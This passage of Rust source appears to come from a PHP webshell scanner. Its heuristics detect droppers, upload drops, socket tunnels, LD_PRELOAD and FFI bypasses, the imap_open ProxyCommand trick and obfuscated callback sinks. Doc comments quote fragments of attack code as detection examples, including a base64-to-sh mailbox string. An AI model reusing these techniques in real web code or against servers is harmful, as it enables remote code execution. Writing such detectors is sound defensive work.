        let statement = &near[near.rfind([';', '{', '}']).map_or(0, |s| s + 1)..];
        if statement.contains("function")
            || statement.contains("use (")
            || statement.contains("use(")
            || statement.trim_start().starts_with("global")
            || statement.contains("list(")
            || statement.contains("catch")
        {
            return true;
        }
    }
    false
}

/// `$v = $saved` where the script did `$saved = $v` shortly before (within 8 KiB of `before`,
/// the text up to the assignment): `$v` gets its own value back, from the request as before
/// (`$commandBk = $command; $command = ""; … $command = $commandBk;`).
fn restores(before: &str, rhs: &str, whole: &str) -> bool {
    let t = &before[before.floor_char_boundary(before.len().saturating_sub(8192))..];
    let saved = rhs;
    if !saved
        .strip_prefix('$')
        .is_some_and(|w| !w.is_empty() && w.chars().all(is_ident))
    {
        return false;
    }
    find_all(t, saved).take(200).any(|p| {
        let after = &t[p + saved.len()..];
        !after.starts_with(is_ident)
            && after.trim_start().strip_prefix('=').is_some_and(|r| {
                let r = r.trim_start();
                r.strip_prefix(whole)
                    .is_some_and(|rest| rest.trim_start().starts_with(';'))
            })
    })
}

/// Script extensions a web server runs: an upload kept under one of these names is a new page.
const SCRIPT_EXTENSIONS: &[&str] = &[
    ".php", ".phtml", ".php3", ".php4", ".php5", ".phar", ".asp", ".aspx", ".jsp",
];

/// `copy('http://…/x.txt', 'wp-cache.php')`, `file_put_contents('a.php',
/// file_get_contents('http://…'))`: code fetched from the web and saved under a script name,
/// the second stage of a dropper. Updaters fetch archives and unpack them; they do not save a
/// URL's body straight into a `.php`.
fn downloaded_page(t: &str, hits: &mut Vec<Hit>) {
    let remote = |arg: &str| {
        let arg = arg.trim();
        let url = arg
            .strip_prefix("file_get_contents(")
            .map(str::trim_start)
            .unwrap_or(arg);
        [
            "'http://",
            "'https://",
            "'ftp://",
            "\"http://",
            "\"https://",
            "\"ftp://",
        ]
        .iter()
        .any(|u| url.starts_with(u))
    };
    let script = |arg: &str| {
        literal(arg.trim()).is_some_and(|p| SCRIPT_EXTENSIONS.iter().any(|e| p.ends_with(e)))
    };
    // Each call, which argument is the saved path and which the source.
    for (name, path, from) in [("copy", 1, 0), ("file_put_contents", 0, 1)] {
        for (at, open) in calls(t, name).take(200) {
            let Some(args) = arguments(open) else {
                continue;
            };
            if let (Some(path), Some(from)) = (args.get(path), args.get(from))
                && script(path)
                && remote(from)
            {
                hits.push(hit(
                    "scan.heuristic.php_file_drop",
                    Severity::High,
                    "Code fetched from the web saved as a script",
                    format!("`{name}(…)` saves what a URL returns under the script name {}: a second stage fetched and planted where the server runs it", path.trim()),
                    at,
                ));
                return;
            }
        }
    }
}

/// An uploaded file kept where the uploader says: `copy($_FILES['f']['tmp_name'],
/// $_FILES['f']['name'])` or a path from the form, or under a fixed script name. Upload handlers
/// put files in a directory of their own (`$dir . basename(…)`); a name the client chose, kept
/// beside the script, is how a shell drops the next one.
fn upload_drop(t: &str, hits: &mut Vec<Hit>) {
    for name in ["move_uploaded_file", "copy"] {
        for (at, open) in calls(t, name).take(200) {
            let Some(args) = arguments(open) else {
                continue;
            };
            let [from, to, ..] = args[..] else {
                continue;
            };
            let from = crate::heuristics::bare_php_value(from);
            let to = crate::heuristics::bare_php_value(to);
            let uploaded = |v: &str| {
                (v.starts_with("$_files[") || v.starts_with("$http_post_files["))
                    && !v.contains(['.', '('])
            };
            let temporary = uploaded(from) && from.contains("tmp_name");
            let why = if temporary
                && uploaded(to)
                && (to.contains("name']") || to.contains("name\"]"))
            {
                "the uploaded file is kept under the name the client gave it, beside the script: whatever the uploader sends, a script included, becomes a page of the site"
            } else if temporary
                && PHP_INPUT.iter().any(|i| to.starts_with(i))
                && !to.contains(['.', '('])
            {
                "the uploaded file is kept at a path the request names: the uploader chooses where a new file, a script included, lands"
            } else if literal(to).is_some_and(|l| {
                SCRIPT_EXTENSIONS.iter().any(|e| l.ends_with(e)) && !l.contains(['$', '{'])
            }) && (from.contains("tmp_name") || name == "move_uploaded_file")
            {
                "the uploaded file is kept under a fixed script name: whatever is uploaded becomes a page the server runs"
            } else {
                continue;
            };
            hits.push(hit(
                "scan.heuristic.php_file_drop",
                Severity::High,
                "Uploaded file kept where the uploader says",
                format!("`{name}(…)`: {why}"),
                at,
            ));
            return;
        }
    }
}

/// A file whose name and content both come from the request: `fopen($_POST['f'], 'w')` and
/// `fwrite($f, $_POST['c'])`, or `file_put_contents($_GET['f'], $_POST['c'])`. An upload form
/// moves an uploaded file; writing request text to a request-chosen path drops a new script.
fn request_file_write(t: &str, tainted: &[&str], hits: &mut Vec<Hit>) {
    let has_input = |arg: &str| PHP_INPUT.iter().any(|i| arg.contains(i));
    let mut named = None;
    // `fopen($path, 'w')`, or the object form `new SplFileObject($path, 'w')`.
    let opens = calls(t, "fopen")
        .take(200)
        .chain(calls(t, "splfileobject").take(200));
    for (at, open) in opens {
        if let Some(args) = arguments(open)
            && args.len() >= 2
            && has_input(args[0])
            && literal(args[1]).is_some_and(|m| m.contains(['w', 'a', 'x']))
        {
            named = Some(at);
            break;
        }
    }
    // Whether an `fwrite`/`fputs` of the script writes text that `what` accepts.
    let written = |what: &dyn Fn(&str) -> bool| {
        ["fwrite", "fputs"].iter().any(|w| {
            calls(t, w).take(200).any(|(at, open)| {
                // `$file->fwrite($text)` (SplFileObject) writes its first argument.
                let method = t[..at].ends_with("->");
                let text = usize::from(!method);
                arguments(open).is_some_and(|a| a.get(text).is_some_and(|x| what(x)))
            })
        })
    };
    let put = calls(t, "file_put_contents")
        .take(200)
        .find_map(|(at, open)| {
            let args = arguments(open)?;
            (args.len() >= 2 && has_input(args[0]) && has_input(args[1])).then_some(at)
        });
    if let Some(at) = put.or(named.filter(|_| written(&has_input))) {
        hits.push(hit(
            "scan.heuristic.php_file_drop",
            Severity::High,
            "File written with a name and content from the request",
            "the request chooses both the path of a file this script writes and what goes in it: a way to drop a new script anywhere the web server may write".into(),
            at,
        ));
        return;
    }
    // `file_put_contents('x.php', $_POST['c'])`, or `'README'` written so and then
    // `require 'README'`: request text saved where PHP will run it.
    // What the script includes, read once for all the writes below.
    let includes: Vec<&str> = included(t).take(200).map(|(_, _, arg)| arg).collect();
    let runs = |path: &str| {
        SCRIPT_EXTENSIONS.iter().any(|e| path.ends_with(e))
            || includes.iter().any(|arg| literal(arg) == Some(path))
    };
    // Or a path kept in a variable that the script then includes:
    // `file_put_contents($fn, '<?php ' . $d); require $fn;`, with `$d` from the request.
    let runs_variable = |path: &str| {
        path.len() > 1
            && path.starts_with('$')
            && path[1..].chars().all(is_ident)
            && includes.contains(&path)
    };
    // Input exported as data (`var_export($_POST['cfg'], true)`) is a settings file.
    let carried = |arg: &str| {
        (has_input(arg) || carries(arg, tainted))
            && !["var_export(", "serialize(", "json_encode("]
                .iter()
                .any(|d| arg.contains(d))
    };
    let saved = calls(t, "file_put_contents")
        .take(200)
        .find_map(|(at, open)| {
            let args = arguments(open)?;
            let first = args.first()?.trim();
            if args.len() >= 2 && runs_variable(first) && carried(args[1]) {
                return Some((at, first));
            }
            let path = literal(first).filter(|p| !p.is_empty() && !p.contains('$'))?;
            (args.len() >= 2 && carried(args[1]) && runs(path)).then_some((at, path))
        })
        .or_else(|| {
            // `$f = fopen('/tmp/.x', 'w'); fwrite($f, $_POST['c']); include '/tmp/.x';`
            let (at, path) = calls(t, "fopen").take(200).find_map(|(at, open)| {
                let args = arguments(open)?;
                let mode = literal(args.get(1)?)?;
                let first = args.first()?.trim();
                let path = literal(first)
                    .filter(|p| !p.is_empty() && !p.contains('$') && runs(p))
                    .or_else(|| runs_variable(first).then_some(first))?;
                mode.contains(['w', 'a', 'x']).then_some((at, path))
            })?;
            written(&carried).then_some((at, path))
        });
    if let Some((at, path)) = saved {
        hits.push(hit(
            "scan.heuristic.php_file_drop",
            Severity::High,
            "Request text saved as code the server runs",
            format!("`{path}` is written with request input and is a file that PHP runs (a script name, or a file this script includes): whatever the request sends becomes code"),
            at,
        ));
    }
}

/// A socket opened to the host the request names (`fsockopen($_GET['h'], …)`) and fed with
/// request data: a tunnel (reGeorg, Neo-reGeorg, pystinger) that relays the request's body
/// into the network behind the web server. Clients of mail or HTTP servers connect to hosts
/// their settings name.
fn request_tunnel(t: &str, tainted: &[&str], hits: &mut Vec<Hit>) {
    // Each opening call and which argument is the host.
    const OPENS: &[(&str, usize)] = &[
        ("fsockopen", 0),
        ("pfsockopen", 0),
        ("stream_socket_client", 0),
        ("socket_connect", 1),
    ];
    const SENDS: &[&str] = &["fwrite", "fputs", "socket_write", "socket_send"];
    let from_request =
        |arg: &str| PHP_INPUT.iter().any(|i| arg.contains(i)) || carries(arg, tainted);
    let opened = OPENS.iter().find_map(|(name, host)| {
        calls(t, name).take(200).find_map(|(at, open)| {
            let args = arguments(open)?;
            from_request(args.get(*host)?).then_some((at, *name))
        })
    });
    let Some((at, name)) = opened else { return };
    let relays = SENDS.iter().any(|w| {
        calls(t, w)
            .take(200)
            .any(|(_, open)| arguments(open).is_some_and(|a| a.len() >= 2 && from_request(a[1])))
    });
    if relays {
        hits.push(hit(
            "scan.heuristic.php_tunnel",
            Severity::High,
            "Request data relayed to a host the request names",
            format!("`{name}(…)` connects to a host taken from the request and the script writes request data into the socket: a tunnel through the web server into the network behind it (reGeorg and kin)"),
            at,
        ));
    }
}

/// `mysqli_connect($_POST['host'], …)`, `new PDO($_GET['dsn'])`: a database connection to the
/// server the request names, as sent. Applications connect to the server their settings
/// name; installers, to one their form builds into a settings file.
/// Whether argument `arg` is request input as sent, or a variable in `direct` that holds it.
fn sent_as_is(arg: &str, direct: &[&str]) -> bool {
    let v = crate::heuristics::bare_php_value(arg);
    PHP_INPUT.iter().any(|i| v.starts_with(i))
        || direct
            .iter()
            .any(|d| crate::heuristics::starts_with_name(v, d))
}

/// `dl($_GET['so'])`, `$db->loadExtension($_GET['ext'])`: a native library the request names
/// (an upload) loaded into PHP, where it runs whatever its author wrote, past every
/// `disable_functions`.
fn request_library_load(t: &str, direct: &[&str], hits: &mut Vec<Hit>) {
    for (name, method) in [("dl", false), ("loadextension", true)] {
        for (at, open) in calls(t, name).take(200) {
            let before = t[..at].trim_end();
            if before.ends_with("->") != method || !method && before.ends_with(['>', ':']) {
                continue;
            }
            if arguments(open)
                .and_then(|a| a.first().copied())
                .is_some_and(|a| sent_as_is(a, direct))
            {
                hits.push(hit(
                    "scan.heuristic.php_library_load",
                    Severity::Critical,
                    "Script loads the native library the request names",
                    format!("`{name}(…)` loads a native library from the path the request gives: code of the attacker's own (an upload) runs inside PHP, past disable_functions"),
                    at,
                ));
                return;
            }
        }
    }
}

/// `symlink($_GET['t'], …)`: a link into the site to any file the request names, the
/// "symlink bypass" of shared hosts that reads other sites' files and configs.
fn request_symlink(t: &str, direct: &[&str], hits: &mut Vec<Hit>) {
    for (at, open) in calls(t, "symlink").take(200) {
        if t[..at].trim_end().ends_with(['>', ':']) {
            continue;
        }
        if arguments(open)
            .and_then(|a| a.first().copied())
            .is_some_and(|a| sent_as_is(a, direct))
        {
            hits.push(hit(
                "scan.heuristic.php_symlink",
                Severity::Medium,
                "Script links the file the request names",
                "`symlink(…)` makes a link to the path the request gives: the \"symlink bypass\" of shared hosts, which reads other sites' files and configs through this one".to_string(),
                at,
            ));
            return;
        }
    }
}

/// `error_log($_POST['c'], 3, 'cache.php')`: message type 3 appends the message to a file; a
/// script name makes the request's text a page.
fn error_log_drop(t: &str, tainted: &[&str], hits: &mut Vec<Hit>) {
    for (at, open) in calls(t, "error_log").take(200) {
        let Some(args) = arguments(open) else {
            continue;
        };
        if args.len() >= 3
            && args[1].trim() == "3"
            && crate::flows::names_page(args[2])
            && (PHP_INPUT.iter().any(|i| args[0].contains(i)) || carries(args[0], tainted))
        {
            hits.push(hit(
                "scan.heuristic.php_file_drop",
                Severity::High,
                "Script writes request text into a PHP file through error_log",
                format!(
                    "`error_log(…, 3, {})` appends request text to a file with a script extension: whoever sends the request writes a page the server runs",
                    args[2].trim().chars().take(60).collect::<String>()
                ),
                at,
            ));
            return;
        }
    }
}

fn request_db_client(t: &str, direct: &[&str], hits: &mut Vec<Hit>) {
    const CONNECTS: &[&str] = &[
        "mysql_connect",
        "mysql_pconnect",
        "mysqli_connect",
        "mysqli",
        "mssql_connect",
        "sqlsrv_connect",
        "pdo",
    ];
    let as_sent = |arg: &str| sent_as_is(arg, direct);
    let connected = CONNECTS.iter().find_map(|name| {
        calls(t, name).take(200).find_map(|(at, open)| {
            // `new mysqli(`/`new PDO(` as a class; the functions as themselves.
            let class = matches!(*name, "mysqli" | "pdo");
            // Only the few bytes before the name: a run of spaces is not read back each time.
            let before = &t[t.floor_char_boundary(at.saturating_sub(16))..at];
            if class && !before.trim_end().ends_with("new") {
                return None;
            }
            let args = arguments(open)?;
            as_sent(args.first()?).then_some((at, *name))
        })
    });
    if let Some((at, name)) = connected {
        hits.push(hit(
            "scan.heuristic.php_db_client",
            Severity::Medium,
            "Database connection to the server the request names",
            format!("`{name}(…)` connects to the database server given in the request, as sent: a client for any database the web server can reach (the database tab of a webshell, a dumper)"),
            at,
        ));
    }
}

/// `putenv("LD_PRELOAD=/tmp/x.so")`: the next program PHP starts (`mail()` runs sendmail, and
/// so do `error_log`, `imap_mail`, ImageMagick) loads the script's own library first, so
/// commands run although every command function is disabled (Chankro and the bypass kits).
/// Nothing a web application does needs it.
fn preload_hijack(t: &str, hits: &mut Vec<Hit>) {
    for (at, open) in calls(t, "putenv").take(200) {
        let Some(first) = arguments(open).and_then(|a| a.first().copied()) else {
            continue;
        };
        if first
            .trim()
            .trim_start_matches(['"', '\''])
            .starts_with("ld_preload=")
        {
            let mut h = hit(
                "scan.heuristic.ld_preload",
                Severity::High,
                "PHP sets LD_PRELOAD for the programs it starts",
                "`putenv(\"LD_PRELOAD=…\")` makes the next program PHP starts (sendmail behind `mail()`, ImageMagick…) load a library the script chose: commands run even where every command function is disabled".into(),
                at,
            );
            h.attack.push("T1574.006".into());
            hits.push(h);
            return;
        }
    }
}

/// `FFI::cdef("int system(const char *command);")`: PHP's foreign function interface (7.4+)
/// declares the C library's own command or code-loading function and calls it, where every
/// PHP command function is disabled. Applications that use FFI bind their own libraries.
fn ffi_command(t: &str, first: usize, hits: &mut Vec<Hit>) {
    const C_CALLS: &[&str] = &[
        "system(",
        "popen(",
        "execve(",
        "execl(",
        "execlp(",
        "execv(",
        "execvp(",
        "posix_spawn(",
        "dlopen(",
    ];
    for at in find_all(&t[first..], "ffi::cdef")
        .take(64)
        .map(|p| first + p)
    {
        let Some(open) = t[at + "ffi::cdef".len()..].trim_start().strip_prefix('(') else {
            continue;
        };
        // The declarations: the call's first 1 KiB.
        let declared = crate::heuristics::near(open, 1024);
        let Some(name) = C_CALLS
            .iter()
            .find(|c| find_all(declared, c).any(|p| !declared[..p].ends_with(is_ident)))
        else {
            continue;
        };
        hits.push(hit(
            "scan.heuristic.php_ffi_exec",
            Severity::High,
            "PHP declares a C command function through FFI",
            format!("`FFI::cdef` declares the C library's `{name}…)` for PHP to call: commands run where every PHP command function is disabled (the FFI bypass of `disable_functions`)"),
            at,
        ));
        return;
    }
}

/// `imap_open('{x -oProxyCommand=echo\tBASE64|base64\t-d|sh}:143/imap}INBOX', …)`: the
/// mailbox name is handed to `rsh`/`ssh` as its command line, and ssh runs the proxy command,
/// a shell command, where every command function is disabled (CVE-2018-19518). A mail client
/// names a server, never an ssh option.
fn imap_proxy_command(t: &str, at: usize, hits: &mut Vec<Hit>) {
    if calls(t, "imap_open").next().is_none() {
        return;
    }
    let mut h = hit(
        "scan.heuristic.imap_proxy_command",
        Severity::High,
        "PHP opens an IMAP mailbox named with an ssh ProxyCommand",
        "the script calls `imap_open` and holds `-oProxyCommand=`: a mailbox name with that option makes the ssh that c-client starts run a shell command, even where every command function is disabled".into(),
        at,
    );
    h.attack.push("T1059.004".into());
    hits.push(h);
}

/// `$_=[]; $_="$_"; … $__++; … $___($_[_]);`: function names made by incrementing strings, in
/// variables named only with underscores, then called. No letter of the name is in the file.
fn incremented_names(t: &str, hits: &mut Vec<Hit>) {
    let underscores = |name: &str| name.len() > 1 && name[1..].bytes().all(|b| b == b'_');
    let increments = find_all(t, "++")
        .filter(|&p| {
            // The operand just before, within a few bytes: `$__++`, `$__ ++`.
            let before = t[t.floor_char_boundary(p.saturating_sub(64))..p].trim_end();
            let start = before.rfind('$').unwrap_or(before.len());
            underscores(&before[start..])
        })
        .take(10)
        .count();
    if increments < 10 {
        return;
    }
    let call = crate::heuristics::variables(t)
        .find(|&(p, v)| underscores(v) && t[p + v.len()..].trim_start().starts_with('('));
    if let Some((at, name)) = call {
        hits.push(hit(
            "scan.heuristic.xor_strings",
            Severity::High,
            "Function name built by incrementing strings",
            format!("the script builds strings by incrementing characters (`$_++`) in variables named only with underscores, then calls one of them (`{name}(…)`): a function name written without any of its letters"),
            at,
        ));
    }
}

/// `a ^ b` in an expression, outside its string literals, with a string on one side: names are
/// hidden as the XOR of two strings (`pack('H*', '133f…') ^ $k`).
fn xor_of_strings(rhs: &str) -> bool {
    let rhs = rhs.split(';').next().unwrap_or(rhs);
    let xor = unquoted(rhs).any(|(_, c)| c == '^');
    // Any quote opens a string literal.
    let strings = rhs.contains(['\'', '"']);
    xor && (strings || rhs.contains("pack(") || rhs.contains("chr("))
}

/// What the script's variables were seen to hold, for the callback check.
struct Held<'a, 'b> {
    /// Request input as it came: `$f = $_GET['f']`.
    direct: &'b [&'a str],
    /// A code-running function's name: `$cb = 'system'`.
    named: &'b [(&'a str, &'a str)],
    /// A value computed by XOR of strings.
    xored: &'b [&'a str],
}

/// `ob_start('system')`, `$f = 'assert'; ob_start($f);`: the page's own output is handed to a
/// function that runs it, whatever the page prints (often the request) becomes a command.
fn output_to_sink(t: &str, named: &[(&str, &str)], hits: &mut Vec<Hit>) {
    for (p, call) in calls(t, "ob_start").take(50) {
        let Some(arg) = arguments(call).and_then(|a| a.first().copied()) else {
            continue;
        };
        let arg = arg.trim_start_matches('@');
        if let Some(sink) = literal(arg)
            .filter(|l| runs_code(l))
            .or_else(|| named.iter().find(|(v, _)| *v == arg).map(|(_, l)| *l))
        {
            hits.push(hit(
                "scan.heuristic.php_callback",
                Severity::Critical,
                "Callback chosen to run request input",
                format!("`ob_start(…)` hands everything the page prints to `{sink}`: the output is run as code or a command"),
                p,
            ));
            return;
        }
        // `ob_start('keep')` or `ob_start(function ($c) { global $s; $s = $c; })`, then
        // `assert($s)`: the callback keeps the page's output in a global the page then runs.
        let body = if arg.starts_with("function") {
            Some(arg)
        } else {
            literal(arg)
                .filter(|name| !name.is_empty() && name.chars().all(is_ident))
                .and_then(|name| {
                    calls(t, name).find_map(|(at, open)| {
                        t[..at]
                            .trim_end()
                            .ends_with("function")
                            .then(|| &open[..open.floor_char_boundary(1024)])
                    })
                })
        };
        let Some(body) = body else {
            continue;
        };
        let body = &body[..body.find('}').unwrap_or(body.len())];
        for g in find_all(body, "global ") {
            let names = &body[g + 7..];
            let names = &names[..names.find(';').unwrap_or(names.len())];
            for var in names.split(',').map(str::trim).filter(|v| v.len() > 1) {
                if let Some((at, sink)) = sink_of(t, var) {
                    hits.push(hit(
                        "scan.heuristic.php_callback",
                        Severity::Critical,
                        "Callback chosen to run request input",
                        format!("`ob_start(…)` keeps everything the page prints in `{var}`, and `{sink}({var})` runs it: the output is run as code or a command"),
                        at,
                    ));
                    return;
                }
            }
        }
    }
}

/// The calls of code- and command-running functions in `t` (not `create_function`, which
/// runs nothing by itself), in order, found in one pass: where, which, and the text from its
/// `(`. At most 500.
fn sink_calls(t: &str) -> impl Iterator<Item = (usize, &str, &str)> {
    static SINKS: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
        std::sync::LazyLock::new(|| {
            aho_corasick::AhoCorasick::builder()
                .match_kind(aho_corasick::MatchKind::LeftmostLongest)
                .build(
                    PHP_EXEC
                        .iter()
                        .filter(|e| **e != "create_function(")
                        .map(|e| e.trim_end_matches('(')),
                )
                .ok()
        });
    SINKS
        .as_ref()
        .into_iter()
        .flat_map(move |sinks| sinks.find_iter(t))
        .take(500)
        .filter_map(|m| {
            let open = t[m.end()..].trim_start();
            let plain = crate::heuristics::plain_name_at(t, m.start())
                && !t[m.end()..].starts_with(is_ident)
                && open.starts_with('(');
            plain.then(|| (m.start(), &t[m.range()], open))
        })
}

/// The first call of a code- or command-running function whose first argument starts with the
/// whole variable `var` (`$s`, `$s . " 2>&1"`, not `$sx`): where, and which function.
pub(crate) fn sink_of<'a>(t: &'a str, var: &str) -> Option<(usize, &'a str)> {
    sink_calls(t).find_map(|(at, sink, open)| {
        let arg = crate::heuristics::bare_php_value(arguments(open)?.first().copied()?);
        let rest = arg.strip_prefix(var)?;
        (!rest.starts_with(is_ident)).then_some((at, sink))
    })
}

/// `unserialize($_GET['id'])` in a script whose own class runs a property in a magic method
/// (`function __destruct() { eval($this->data); }`): the request builds an object of that class
/// with the property it chooses, and PHP runs it when the object is destroyed.
fn deserialized_sink(t: &str, direct: &[&str], hits: &mut Vec<Hit>) {
    let from_request = calls(t, "unserialize").take(50).find_map(|(at, open)| {
        let arg = crate::heuristics::bare_php_value(arguments(open)?.first().copied()?);
        // `unserialize(base64_decode($_COOKIE['d']))`: decoded, it is still the request's.
        let arg = DECODE_CALLS
            .iter()
            .find_map(|d| arg.strip_prefix(d))
            .map_or(arg, crate::heuristics::bare_php_value);
        let name_len = arg
            .char_indices()
            .skip(1)
            .find(|&(_, c)| !is_ident(c))
            .map_or(arg.len(), |(i, _)| i);
        (PHP_INPUT.iter().any(|i| arg.starts_with(i)) || direct.contains(&&arg[..name_len]))
            .then_some(at)
    });
    let Some(at) = from_request else {
        return;
    };
    for (p, sink, open) in sink_calls(t) {
        let Some(arg) = arguments(open).and_then(|a| a.first().copied()) else {
            continue;
        };
        if !crate::heuristics::bare_php_value(arg).starts_with("$this->") {
            continue;
        }
        let from = t.floor_char_boundary(p.saturating_sub(2048));
        let Some(f) = t[from..p].rfind("function ") else {
            continue;
        };
        let method = t[from + f + 9..p].trim_start();
        let magic = [
            "__destruct",
            "__wakeup",
            "__tostring",
            "__call",
            "__get",
            "__invoke",
        ]
        .into_iter()
        .find(|m| method.starts_with(m));
        if let Some(magic) = magic {
            hits.push(hit(
                "scan.heuristic.php_callback",
                Severity::Critical,
                "Request input unserialized into an object that runs code",
                format!("the script unserializes request input, and its own class's `{magic}()` gives a property to `{sink}(…)`: the request builds the object and chooses what runs"),
                at,
            ));
            return;
        }
    }
}

/// `yaml_parse($doc, 0, $n, array("!{$_REQUEST['op']}" => 'preg_replace'))`: the callbacks
/// argument maps a YAML tag the request names, or any tag, to a function that runs code; `t`
/// is the whole script (the tag is often interpolated with braces, which split statements).
fn yaml_callbacks(t: &str, hits: &mut Vec<Hit>) {
    for name in ["yaml_parse_file", "yaml_parse_url", "yaml_parse"] {
        for (p, call) in calls(t, name).take(200) {
            let Some(table) = arguments(call).and_then(|a| a.get(3).copied()) else {
                continue;
            };
            let sink = table.split("=>").skip(1).find_map(|v| {
                let v = v.trim().trim_end_matches([')', ']', ',']).trim();
                literal(v).filter(|l| runs_code(l) || *l == "preg_replace")
            });
            let keyed_by_request = PHP_INPUT.iter().any(|i| table.contains(i));
            if sink.is_none() && !keyed_by_request {
                continue;
            }
            let why = match sink {
                Some(f) => format!(
                    "`{name}(…)` hands YAML tags to `{f}`, and the statement uses request input: the document's tagged values are run"
                ),
                None => format!(
                    "`{name}(…)` hands YAML tags the request names to a callback: the request chooses what runs"
                ),
            };
            hits.push(hit(
                "scan.heuristic.php_callback",
                Severity::Critical,
                "Callback chosen to run request input",
                why,
                p,
            ));
            return;
        }
    }
}

/// Each `include`/`require` (and `_once`) in `s` as a statement, not part of a longer name:
/// where, which word, and its argument up to `;`, `)` or the line's end (`'a.php'`, `$f`).
fn included(s: &str) -> impl Iterator<Item = (usize, &'static str, &str)> {
    ["include_once", "require_once", "include", "require"]
        .into_iter()
        .flat_map(move |word| {
            find_all(s, word).filter_map(move |p| {
                let after = &s[p + word.len()..];
                if !crate::heuristics::plain_name_at(s, p) || after.starts_with(is_ident) {
                    return None;
                }
                let arg = crate::heuristics::bare_php_value(after);
                let end = arg.find([';', ')', '\n']).unwrap_or(arg.len());
                Some((p, word, arg[..end].trim()))
            })
        })
}

/// `include($_GET['page'])`, `$f = $_GET['f']; include $f;`: the request names the file PHP
/// runs (an uploaded picture, a log with code written into it, a remote URL).
fn request_include(
    t: &str,
    s: &str,
    here: usize,
    direct: &[&str],
    tainted: &[&str],
    hits: &mut Vec<Hit>,
    found: &mut Vec<&str>,
) {
    for (p, word, arg) in included(s) {
        // `include 'data://text/plain;base64,' . $code`: the request's text is the file. The
        // statement is read on past the `;` in the literal, within its line and 1 KiB.
        let whole = crate::heuristics::near(&t[here + p + word.len()..], 1024);
        let whole = crate::heuristics::bare_php_value(whole);
        let whole = &whole[..whole.find('\n').unwrap_or(whole.len())];
        if whole
            .strip_prefix(['"', '\''])
            .is_some_and(|w| w.starts_with("data:"))
            && (PHP_INPUT.iter().any(|i| whole.contains(i)) || carries(whole, tainted))
        {
            hits.push(hit(
                "scan.heuristic.input_to_exec",
                Severity::Critical,
                "Request input passed to code or command execution",
                format!(
                    "`{word} {}`: PHP runs request text as a file of code, handed over as a `data:` URL",
                    whole.chars().take(60).collect::<String>()
                ),
                here + p,
            ));
            found.push("scan.heuristic.request_include");
            return;
        }
        if arg.contains(['.', '(', ',', '?', '"', '\''])
            && !bracketed_input(arg)
            && literal(arg).is_none()
        {
            continue;
        }
        // `include('php://input')`: the request body itself is the file.
        let body = literal(arg).is_some_and(|l| l == "php://input" || l.starts_with("data:"));
        let from_request =
            PHP_INPUT.iter().any(|i| arg.starts_with(i)) || direct.contains(&arg) || body;
        if !from_request {
            continue;
        }
        hits.push(hit(
            "scan.heuristic.request_include",
            Severity::High,
            "Script includes the file the request names",
            format!(
                "`{word} {}`: PHP runs whatever file the request names, an upload, a log with code in it, or a remote URL",
                arg.chars().take(60).collect::<String>()
            ),
            here + p,
        ));
        found.push("scan.heuristic.request_include");
        return;
    }
}

/// `$_GET['page']`, `$_POST["f"]`: one superglobal item, whose key holds quotes but no code;
/// for uploads two (`$_FILES['f']['tmp_name']`, the uploaded file itself).
fn bracketed_input(arg: &str) -> bool {
    PHP_INPUT.iter().any(|i| {
        let keys = if i.ends_with("files") { 2 } else { 1 };
        arg.strip_prefix(i).is_some_and(|rest| {
            let rest = rest.trim_end();
            rest.starts_with('[')
                && rest.ends_with(']')
                && !rest.contains(['.', '(', ','])
                && (1..=keys).contains(&rest.matches('[').count())
        })
    })
}

/// A callback that is request input, a variable holding it, something decoded, or the name
/// of a function that runs code.
fn callbacks(
    s: &str,
    here: usize,
    names: &[(&str, Callback)],
    held: Held<'_, '_>,
    hits: &mut Vec<Hit>,
    found: &mut Vec<&str>,
) {
    let Held {
        direct,
        named,
        xored,
    } = held;
    for (name, which) in names {
        for (p, call) in calls(s, name) {
            let Some(args) = arguments(call) else {
                continue;
            };
            // `$o->uasort('assert')` has only the callback.
            let Some(arg) = which.pick(&args).map(|a| a.trim_start_matches('@')) else {
                continue;
            };
            let why = if let Some(lit) = literal(arg).filter(|l| runs_code(l)) {
                format!(
                    "`{name}(…)` is given `{lit}` as the function to call, and the script reads request input: whatever the request sends is run"
                )
            } else if PHP_INPUT.iter().any(|i| arg.starts_with(i)) {
                format!("`{name}(…)` calls the function the request names (`{arg}`)")
            } else if let Some(v) = direct.iter().find(|v| {
                // The variable, or one element of it (`$z['f']` after `$z = $_POST`).
                arg.strip_prefix(**v).is_some_and(|rest| {
                    rest.is_empty() || rest.starts_with('[') && rest.ends_with(']')
                })
            }) {
                format!("`{name}(…)` calls the function named by `{v}`, which holds request input")
            } else if let Some(start) = PHP_INPUT
                .iter()
                .copied()
                .chain(direct.iter().copied())
                .find(|i| arg.starts_with(i) && !arg[i.len()..].starts_with(is_ident))
                && arg[start.len()..]
                    .trim_start_matches(|c: char| c != '.')
                    .strip_prefix('.')
                    .is_some_and(|rest| literal(rest.trim()).is_some())
            {
                // `$_COOKIE['k'] . "ert"`: the request supplies the front of the name; a
                // dispatcher puts its own prefix first (`'action_' . $_GET['a']`).
                format!(
                    "`{name}(…)` calls a function whose name starts with request input (`{}`)",
                    arg.chars().take(60).collect::<String>()
                )
            } else if let Some((v, lit)) = named.iter().find(|(v, _)| arg == *v) {
                format!(
                    "`{name}(…)` is given `{v}`, which holds `{lit}`, as the function to call, and the script reads request input: whatever the request sends is run"
                )
            } else if DECODE_CALLS.iter().any(|d| arg.starts_with(d)) {
                format!(
                    "`{name}(…)` calls a function whose name is decoded at run time (`{}`)",
                    arg.chars().take(60).collect::<String>()
                )
            } else if let Some(v) = xored.iter().find(|v| arg == **v) {
                format!(
                    "`{name}(…)` calls the function named by `{v}`, computed by XOR of strings: a name hidden from readers, in a script that reads request input"
                )
            } else {
                continue;
            };
            hits.push(hit(
                "scan.heuristic.php_callback",
                Severity::Critical,
                "Callback chosen to run request input",
                why,
                here + p,
            ));
            found.push("scan.heuristic.php_callback");
            return;
        }
    }
}

/// `preg_replace_callback('/.+/', function ($m) { return eval($m[0]); }, $_GET['c'])`: a
/// callback written in place that hands its own parameter to a sink, given request input by
/// the call. The statement walk cannot see it: the closure's braces split the call.
fn closure_callbacks(
    t: &str,
    names: impl Iterator<Item = (&'static str, Callback)>,
    tainted: &[&str],
    hits: &mut Vec<Hit>,
) {
    for (name, which) in names {
        for (at, open) in calls(t, name).take(200) {
            let Some(args) = arguments(open) else {
                continue;
            };
            let Some(callback) = which.pick(&args) else {
                continue;
            };
            let bare = callback
                .strip_prefix("static")
                .unwrap_or(callback)
                .trim_start();
            let Some(params) = bare
                .strip_prefix("function")
                .or_else(|| bare.strip_prefix("fn"))
